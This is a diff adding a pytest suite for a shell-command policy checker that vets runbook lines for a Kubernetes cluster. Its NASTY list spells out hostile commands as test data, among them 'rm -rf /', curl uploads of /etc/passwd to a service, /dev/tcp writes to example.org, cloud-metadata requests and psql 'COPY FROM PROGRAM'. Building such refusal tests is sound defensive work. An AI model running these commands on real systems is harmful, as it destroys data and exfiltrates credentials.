@@ -1,0 +1,310 @@
+"""The runbook is somebody else's text: what it may not do on this machine, line by line."""
+
+from __future__ import annotations
+
+import pytest
+
+from harness.bash.analyse import analyse
+from harness.policy.check import refusals
+
+NASTY = r"""
+rm -rf /
+/bin/rm x
+../x
+eval "ls"
+source /etc/profile
+. /etc/profile
+exec ls
+$CMD x
+`echo rm` x
+{rm,x}
+"r"m x
+r\m x
+cat /etc/passwd
+cat < /etc/passwd
+cat /dev/null /etc/passwd
+cat > /dev/null /etc/passwd
+X=/etc/passwd; cat $X
+cat <(ls)
+kubectl get pods > /etc/x
+kubectl get pods >> x
+kubectl get pods &> x
+kubectl get pods | tee x
+kubectl get pods &
+echo x > /dev/tcp/example.org/80
+cat < /dev/tcp/example.org/80
+kubectl get pods --kubeconfig=/x
+kubectl get pods --context prod
+kubectl --context prod get pods
+kubectl -s http://example.org get pods
+kubectl get pods -s http://example.org
+kubectl --token=abc get pods
+kubectl get pods --as=admin
+kubectl get pods --insecure-skip-tls-verify
+kubectl --v 9 exec p -- rm x
+kubectl -n get --v get exec p rm
+kubectl apply -f x.yaml
+kubectl delete -f x.yaml
+kubectl delete -fx.yaml
+kubectl patch deployment x --patch-file=/etc/passwd
+kubectl get pods -o go-template-file=/etc/passwd
+kubectl get pods -o jsonpath-file /etc/passwd
+kubectl get --raw /api
+kubectl port-forward svc/x 80
+kubectl proxy
+kubectl cp a:/x /y
+kubectl attach x
+kubectl edit deployment x
+kubectl debug x
+kubectl run x --image=evil
+kubectl config use-context prod
+V=apply; kubectl $V -f x
+curl file:///etc/passwd
+curl http://example.org/x
+curl http://example.com.org:80/x
+curl http://169.254.169.254/latest
+curl http://127.0.0.1:22/
+curl http://localhost:8080/x
+curl http://[::1]/
+curl http://api-gateway@example.org/
+curl http://api-gateway:80@example.org/
+curl "http://$1/"
+curl http://$(kubectl get pods -o name)/
+H=example.org; curl http://$H/
+U=file:///etc/passwd; curl $U
+curl "http://{api-gateway,x.org}/"
+curl -o /tmp/x http://api-gateway/
+curl -sSo x http://api-gateway/
+curl -O http://api-gateway/x
+curl -K /etc/x http://api-gateway/
+curl -q http://api-gateway/
+curl -T /etc/passwd http://api-gateway/
+curl -d @/etc/passwd http://api-gateway/
+curl -H @/etc/passwd http://api-gateway/
+curl --data-urlencode x@/etc/passwd http://api-gateway/
+curl -F a=@/etc/passwd http://api-gateway/
+curl -b /etc/passwd http://api-gateway/
+curl -w @/etc/passwd http://api-gateway/
+curl -w '%output{/tmp/x}' http://api-gateway/
+curl -x http://example.org:80 http://api-gateway/
+curl -L http://api-gateway/
+curl --connect-to ::example.org: http://api-gateway/
+curl --resolve api-gateway:80:1.2.3.4 http://api-gateway/
+curl --unix-socket /run/x http://api-gateway/
+kubectl get pods | awk '{system("rm x")}'
+kubectl get pods | awk '{print > "f"}'
+kubectl get pods | awk '{print "x",
+ "y" > "f"}'
+kubectl get pods | awk '{print | "sh"}'
+kubectl get pods | awk 'BEGIN{while((getline l < "/etc/passwd")>0) x=l}'
+kubectl get pods | awk 'BEGIN{ARGV[1]="/etc/passwd";ARGC=2} {x=1}'
+kubectl get pods | awk '{print 1/a | cmd; b/1}'
+kubectl get pods | awk -f x
+kubectl get pods | sed 's/x/rm/e'
+kubectl get pods | sed 's/a/b/w x'
+kubectl get pods | sed -n 'w x'
+kubectl get pods | sed '1e rm x'
+kubectl get pods | sed 'r /etc/passwd'
+kubectl get pods | sed -i s/a/b/ x
+kubectl get pods | sed -ne 'w x'
+kubectl get pods | sort -o x
+kubectl get pods | sort --output=x
+kubectl get pods | sort --outp=x
+x=$(echo -ox); kubectl get pods | sort $x
+kubectl get pods | uniq - x
+kubectl get pods | xargs rm
+kubectl get pods | xargs -I{} sh -c {}
+kubectl get pods | xargs kubectl
+kubectl get pods | xargs curl
+kubectl get pods | grep -f /etc/passwd
+kubectl get pods | grep -if/etc/passwd
+grep -r x /etc
+grep x /etc/passwd
+kubectl get pods | head -1 /etc/passwd
+kubectl logs x | jq 'import "a" as b; .'
+kubectl logs x | jq -f /etc/passwd
+PATH=/bin ls
+PATH=/bin
+export PATH=/bin
+LD_PRELOAD=x kubectl get pods
+BASH_ENV=x kubectl get pods
+KUBECONFIG=/x kubectl get pods
+http_proxy=http://example.org curl http://api-gateway/
+PS4='$(rm x)'; set -x; true
+alias k=rm
+trap 'rm x' EXIT
+kubectl() { rm x; }
+f() { rm x; }; f
+kubectl() { true; }
+bash -c 'rm x'
+sh -c 'rm x'
+python3 -c 'print(1)'
+env rm x
+command rm x
+builtin eval x
+coproc rm x
+nohup kubectl get pods
+time rm x
+timeout 5 rm x
+timeout -s KILL 5 rm x
+watch 'rm x'
+watch kubectl get pods ';' rm x
+echo $(rm x)
+echo `rm x`
+echo "$(rm x)"
+if true; then rm x; fi
+while read l; do rm $l; done
+case x in x) rm y;; esac
+( rm x )
+{ rm x; }
+! rm x
+true && rm x
+true || rm x
+kubectl get pods | rm x
+function g { rm y; }
+x='a[$(rm y)]'; echo $((x))
+x='a[$(rm y)]'; [[ $x -eq 1 ]]
+x=y; y='a[$(rm y)]'; echo $((x))
+echo ${!x}
+echo ${x@P}
+test -v 'a[$(rm)]'
+printf -v 'a[$(rm)]' x
+read 'a[$(rm)]'
+declare -n r=PATH
+declare -i r='a[$(rm)]'
+unset 'a[$(rm)]'
+let x=1
+mapfile -C rm x
+hash -p /bin/rm kubectl
+enable -f x y
+set -m
+kill 1
+date -s 2020-01-01
+date -f /etc/passwd
+wget http://example.org
+kubectl exec p -- rm -rf /
+kubectl exec p rm x
+kubectl exec -it deployment/x -- bash
+kubectl exec p -- /bin/cat /app/x
+kubectl exec p -- sh -c 'rm -rf /'
+kubectl exec p -- sh -c 'cat /etc/passwd'
+kubectl exec p -- sh -c 'sh -c "rm x"'
+kubectl exec p -- sh x.sh
+kubectl exec p -- $SHELL -c 'rm x'
+kubectl exec p -- $BASH -c 'rm x'
+kubectl exec p -- timeout 5 $SHELL no-such-file-anywhere
+kubectl exec p -- psql $(echo -f/etc/passwd)
+kubectl exec p -- sh -c "$(echo rm)"
+X='rm x'; kubectl exec p -- sh -c "$X"
+X=rm; kubectl exec p -- $X y
+kubectl exec p -- cat /etc/passwd
+kubectl exec p -- cat /app/../etc/passwd
+kubectl exec p -- cat /proc/1/environ
+kubectl exec p -- ls /root
+kubectl exec p -- env rm x
+kubectl exec p -- curl http://example.org
+kubectl exec p -- curl -o /app/x http://localhost:8080/
+kubectl exec p -- psql -c '\! rm x'
+kubectl exec p -- psql -c "COPY x FROM PROGRAM 'rm'"
+kubectl exec p -- psql -c "select pg_read_file('/etc/passwd')"
+kubectl exec p -- psql -f /etc/passwd
+kubectl exec p -- psql -o x
+kubectl exec p -- psql postgres://example.org/x -c 'select 1'
+kubectl exec p -- psql -h example.org -c 'select 1'
+cat <<EOF
+$(rm x)
+EOF
+"""
+
+FINE = r"""
+kubectl get pods -n production | grep -v Running | wc -l
+kubectl get pods -A
+kubectl -n production logs -f deployment/x --since=5m
+kubectl get pods -l app=x -o jsonpath='{.items[*].metadata.name}'
+kubectl get pods -o jsonpath={.items[*].metadata.name}
+kubectl logs -f deployment/x | grep -iE "timeout|deadline" | head -20
+kubectl logs deployment/x --tail=100 2>&1 | grep -i error | sort | uniq -c | sort -rn | head -5
+kubectl get pods | awk '{print $1, $3}'
+kubectl get pods | awk '/Running|Pending/ {print $1}'
+kubectl get pods | awk '$4 > 3 {print $1}'
+kubectl get pods | sed -n '1,5p'
+kubectl get pods | sed 's/a/b/g; s|x|y|'
+kubectl get pods | cut -d' ' -f1 | tr a-z A-Z
+kubectl get pods -o json | jq -r '.items[].metadata.name'
+kubectl get pods -o name | xargs -n1 kubectl describe
+kubectl get pods | while read -r p rest; do kubectl describe pod "$p"; done
+POD=$(kubectl get pods -o jsonpath='{.items[0].metadata.name}'); kubectl describe pod $POD
+for i in 1 2 3; do kubectl get pods; sleep 1; done
+for i in {1..3}; do echo $i; done
+n=$(kubectl get pods | wc -l); echo $((n+1))
+if [ $n -gt 3 ]; then echo many; fi
+export NS=production; kubectl get pods -n $NS
+cd /tmp && pwd
+kubectl top pods 2>/dev/null || echo none
+timeout 5 kubectl logs -f x
+watch -n 1 kubectl get pods
+date -u +%FT%T
+curl -s -o /dev/null -w '%{http_code}\n' http://api-gateway.production.svc.cluster.local:8080/health
+curl -fsS --max-time 5 http://tool-service.production:8080/health | jq .status
+curl -X POST -H 'X-Tenant: a' -d '{"a": 1}' api-gateway:8080/v1/infer
+N=api-gateway; curl http://$N:8080/health
+curl "http://api-gateway:8080/a?x=$X"
+kubectl exec -it deployment/x -n y -- cat /app/validation_rules.json
+kubectl exec x -- ls -la /app
+kubectl exec x -- printenv FOO
+kubectl exec x -- curl -s http://localhost:8080/metrics | grep websocket
+kubectl exec x -- psql $DATABASE_URL -c "SELECT count(*) FROM pg_stat_activity;"
+kubectl exec x -- sh -c 'psql "$DATABASE_URL" -c "SELECT 1"'
+kubectl scale deployment x --replicas=0
+kubectl set env deployment/x A=b
+kubectl patch deployment x -p '{"spec":{"replicas":2}}'
+kubectl delete pod x --grace-period=0
+kubectl rollout undo deployment/x
+kubectl gte pods
+kubctl get pods
+no-such-program-anywhere x
+kubectl get pods (
+"""
+
+
+def _lines(text: str) -> list[str]:
+    """One case a line; a case that bash needs several lines for goes on until it is closed."""
+    cases, open_lines = [], []
+    for line in text.strip().splitlines():
+        open_lines.append(line)
+        whole = "\n".join(open_lines)
+        if ("<<EOF" in whole and line != "EOF") or whole.count("'") % 2:
+            continue
+        cases.append(whole)
+        open_lines = []
+    return cases
+
+
+@pytest.mark.parametrize("line", _lines(NASTY))
+def test_what_is_not_known_to_be_harmless_is_refused(line: str) -> None:
+    assert refusals(line)
+
+
+@pytest.mark.parametrize("line", _lines(FINE))
+def test_what_an_operator_types_may_run(line: str) -> None:
+    assert refusals(line) == []
+
+
+def test_a_reason_names_the_thing() -> None:
+    assert refusals("kubectl get pods > out.txt") == ["`> out.txt`: no file but /dev/null may be written or read"]
+    assert refusals("curl http://example.org/") == [
+        "curl http://example.org/: example.org is not the name of a service"
+    ]
+    assert "goes wherever the answer sends it" in refusals("curl -L http://a/")[0]
+
+
+def test_the_shell_remembers_what_earlier_commands_set() -> None:
+    assert refusals("cat $F") == []  # never set: cat gets nothing
+    assert refusals("cat $F", [analyse("F=/etc/passwd")])
+    assert refusals("f", [analyse("f() { kubectl get pods; }")]) == []
+
+
+def test_a_service_of_another_namespace_needs_its_full_name() -> None:
+    assert refusals("curl http://a.staging:80/", namespace="staging") == []
+    assert refusals("curl http://a.staging:80/", namespace="production")
+    assert refusals("curl http://a.staging.svc:80/", namespace="production") == []
